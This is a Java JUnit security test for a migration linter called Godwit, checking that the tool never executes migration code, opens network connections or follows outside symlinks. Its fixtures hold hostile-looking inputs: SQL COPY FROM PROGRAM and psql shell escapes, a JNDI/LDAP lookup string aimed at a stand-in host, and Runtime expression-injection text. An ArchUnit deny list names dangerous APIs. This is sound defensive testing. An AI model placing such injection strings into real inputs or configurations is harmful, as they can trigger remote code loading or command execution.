package dev.godwit.security;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.noClasses;
import static org.assertj.core.api.Assertions.assertThat;

import com.tngtech.archunit.core.domain.JavaClasses;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import dev.godwit.engine.LintResult;
import dev.godwit.engine.LintSettings;
import dev.godwit.engine.Linter;
import dev.godwit.format.ProjectReader;
import dev.godwit.format.ReadOptions;
import dev.godwit.model.Project;
import dev.godwit.rule.Finding;
import dev.godwit.rules.BuiltinRules;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Godwit itself is safe to run on untrusted migrations: it never executes migration code, opens no
 * network connection, follows no symbolic link out of the directory it was given (unless the link is
 * named on the command line), writes only the files it was asked to write, and reads configuration as
 * data.
 */
class ToolSecurityTest {
  @TempDir
  Path tmp;

  Path project;
  Path outside;

  /** Migrations that would do harm if anything ran them, and an outside folder reached by links. */
  @BeforeEach
  void hostileProject() throws IOException {
    project = Files.createDirectories(tmp.resolve("project/db/migration"));
    outside = Files.createDirectories(tmp.resolve("outside"));
    Path marker = tmp.resolve("pwned");
    Files.writeString(project.resolve("V1__copy_program.sql"),
        "COPY t FROM PROGRAM 'touch " + marker + "';\n"
            + "\\! touch " + marker + "\n"
            + "\\o | touch " + marker + "\n"
            + "SELECT dblink_connect('host=192.0.2.1 port=5432');\n"
            + "DO $$ BEGIN PERFORM pg_sleep(0); END $$;\n");
    Files.writeString(project.resolve("V2__java.java"),
        "public class V2__java { static { try { new ProcessBuilder(\"touch\", \"" + marker + "\").start(); }"
            + " catch (Exception e) { } } }\n");
    Files.writeString(project.resolve("V3__python.py"), "import os\nos.system('touch " + marker + "')\n");
    Files.writeString(project.resolve("V4__plain.sql"), "CREATE INDEX inside_idx ON t (c);\n");
    // Flyway's per-script configuration, with text that an expression evaluator would act on
    Files.writeString(project.resolve("V4__plain.sql.conf"),
        "executeInTransaction=${jndi:ldap://192.0.2.1/x}\nclass=java.lang.Runtime\n#{T(java.lang.Runtime).getRuntime()}\n");
    Files.writeString(outside.resolve("V9__outside.sql"), "CREATE INDEX outside_idx ON t (c);\n");
    Files.createSymbolicLink(project.resolve("linked-dir"), outside);
    Files.createSymbolicLink(project.resolve("V5__linked.sql"), outside.resolve("V9__outside.sql"));
  }

  static LintResult lint(Path... roots) {
    Path base = roots[0];
    Project p = new ProjectReader(new ReadOptions(false, 18, 2), base).read(List.of(roots));
    return new Linter(BuiltinRules.ALL, LintSettings.defaults()).lint(p);
  }

  static Set<String> tree(Path root) throws IOException {
    try (Stream<Path> s = Files.walk(root)) {
      return s.map(p -> root.relativize(p).toString()).collect(Collectors.toCollection(TreeSet::new));
    }
  }

  @Test
  void symbolicLinksOutOfTheDirectoryAreNotFollowedUnlessNamed() {
    LintResult r = lint(project);
    List<String> messages = r.findings().stream().map(Finding::message).toList();
    assertThat(messages).anyMatch(m -> m.contains("inside_idx"));
    assertThat(messages).noneMatch(m -> m.contains("outside_idx"));
    // named on the command line: taken
    LintResult named = lint(project.resolve("V5__linked.sql"));
    assertThat(named.findings().stream().map(Finding::message)).anyMatch(m -> m.contains("outside_idx"));
  }

  @Test
  void parseTimeMigrationCodeIsNeverRun() {
    lint(project);
    assertThat(tmp.resolve("pwned")).doesNotExist();
  }

  /**
   * The whole command in a separate JVM under a security policy that grants reading everything and
   * writing only the report file: no network, no process, no other write. A violation would end the
   * run with an AccessControlException (exit code 2 and a stack trace).
   */
  @Test
  void noNetworkNoProcessAndNoWriteBesidesTheReport() throws Exception {
    Path report = tmp.resolve("report.sarif");
    Path policy = tmp.resolve("godwit.policy");
    Files.writeString(policy, "grant {\n"
        + "  permission java.io.FilePermission \"<<ALL FILES>>\", \"read\";\n"
        + "  permission java.io.FilePermission \"" + report.toString().replace("\\", "\\\\") + "\", \"write\";\n"
        + "  permission java.util.PropertyPermission \"*\", \"read,write\";\n"
        + "  permission java.lang.RuntimePermission \"*\";\n"
        + "  permission java.lang.reflect.ReflectPermission \"*\";\n"
        + "  permission java.util.logging.LoggingPermission \"control\";\n"
        + "};\n");
    Set<String> before = tree(tmp);
    Process p = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
        "-Djava.security.manager=default", "-Djava.security.policy==" + policy,
        "-cp", System.getProperty("java.class.path"), "dev.godwit.cli.Main",
        "check", project.toString(), "--format", "sarif", "--output", report.toString(),
        "--format", "text", "--fail-on", "never")
        .directory(tmp.toFile()).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes());
    assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(out).doesNotContain("AccessControlException").doesNotContain("internal error");
    assertThat(p.exitValue()).as(out).isZero();
    assertThat(Files.readString(report)).contains("inside_idx");
    assertThat(tmp.resolve("pwned")).doesNotExist();
    Set<String> after = tree(tmp);
    after.removeAll(before);
    assertThat(after).containsExactly("report.sarif");
  }

  /**
   * The code has no way to run a process (but git for --changed-since), open a socket or URL, deserialize
   * objects or load classes by name.
   */
  @Test
  void noDangerousApisInTheCode() {
    JavaClasses classes = new ClassFileImporter().withImportOption(ImportOption.Predefined.DO_NOT_INCLUDE_TESTS)
        .importPackages("dev.godwit");
    // the one exception: --changed-since asks git which files changed (GitChanges runs `git diff --name-only`,
    // only when that flag is given, with fixed arguments and no shell)
    noClasses().that().doNotHaveFullyQualifiedName("dev.godwit.cli.GitChanges").should().dependOnClassesThat().haveFullyQualifiedName(ProcessBuilder.class.getName())
        .orShould().callMethodWhere(com.tngtech.archunit.core.domain.JavaCall.Predicates.target(
            com.tngtech.archunit.core.domain.properties.HasOwner.Predicates.With.owner(
                com.tngtech.archunit.base.DescribedPredicate.describe("Runtime",
                    (com.tngtech.archunit.core.domain.JavaClass c) -> c.isEquivalentTo(Runtime.class))))
            .and(com.tngtech.archunit.core.domain.properties.HasName.Predicates.name("exec")))
        .orShould().dependOnClassesThat().haveFullyQualifiedName(java.net.Socket.class.getName())
        .orShould().dependOnClassesThat().haveFullyQualifiedName(java.net.ServerSocket.class.getName())
        .orShould().dependOnClassesThat().haveFullyQualifiedName(java.net.DatagramSocket.class.getName())
        .orShould().dependOnClassesThat().haveFullyQualifiedName(java.net.URL.class.getName())
        .orShould().dependOnClassesThat().haveFullyQualifiedName(java.net.URLConnection.class.getName())
        .orShould().dependOnClassesThat().resideInAnyPackage("java.net.http..", "java.nio.channels..", "javax.script..",
            "javax.naming..", "java.rmi..")
        .orShould().dependOnClassesThat().haveFullyQualifiedName(java.io.ObjectInputStream.class.getName())
        .orShould().dependOnClassesThat().haveFullyQualifiedName(ClassLoader.class.getName())
        .orShould().callMethod(Class.class, "forName", String.class)
        .because("Godwit reads migrations as text and never runs, fetches or loads anything they name")
        .check(classes);
  }
}
